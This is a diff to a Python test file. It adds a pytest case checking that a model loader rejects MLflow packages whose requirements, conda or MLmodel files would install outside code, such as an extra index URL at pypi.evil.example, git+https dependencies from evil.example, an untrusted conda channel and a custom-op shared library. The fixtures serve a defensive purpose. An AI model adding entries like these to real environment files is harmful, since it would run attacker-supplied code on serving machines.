@@ -175,3 +175,29 @@ def test_mlmodel_of_the_wrong_shape_is_a_named_error(tmp_path):
     (tmp_path / "MLmodel").write_text("flavors:\n  onnx: model.onnx\n")
     with pytest.raises(ModelLoadError, match="no readable flavors"):
         load_model(str(tmp_path))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("requirements.txt", "mlflow==3.0\n--extra-index-url https://pypi.evil.example/simple\nonnx\n"),
+        ("requirements.txt", "onnxruntime\nevil-wrapper==1.0\n"),
+        ("requirements.txt", "git+https://evil.example/pwn.git\n"),
+        ("python_env.yaml", "python: 3.11\ndependencies:\n- git+https://evil.example/pwn.git\n"),
+        ("conda.yaml", "channels: [evil]\ndependencies:\n- python=3.11\n"),
+        ("conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - evil==1\n"),
+        ("MLmodel", "flavors:\n  onnx:\n    data: model.onnx\n    onnx_session_options: {custom_op: [x.so]}\n"),
+        ("MLmodel", "flavors:\n  onnx: {data: model.onnx}\n  python_function:\n    loader_module: mlflow.onnx\n"
+                    "    data: model.onnx\n    env: {virtualenv: evil_env.yaml}\n"),
+    ],
+)  # fmt: skip
+def test_an_environment_that_would_install_the_providers_code_where_it_is_served_is_refused(
+    digits_zoo, tmp_path, name, text
+):
+    """`mlflow models serve` installs what these files name: only known packages from the
+    default index may be there, or the provider's code runs beside the audited graph."""
+    (tmp_path / "MLmodel").write_text("flavors:\n  onnx:\n    data: model.onnx\n")
+    (tmp_path / "model.onnx").write_bytes(digits_zoo.clean_cnn.read_bytes())
+    (tmp_path / name).write_text(text)
+    with pytest.raises(ModelLoadError, match=r"mlflow\.onnx writes it|asks to install|channels|dependencies must"):
+        load_model(str(tmp_path))
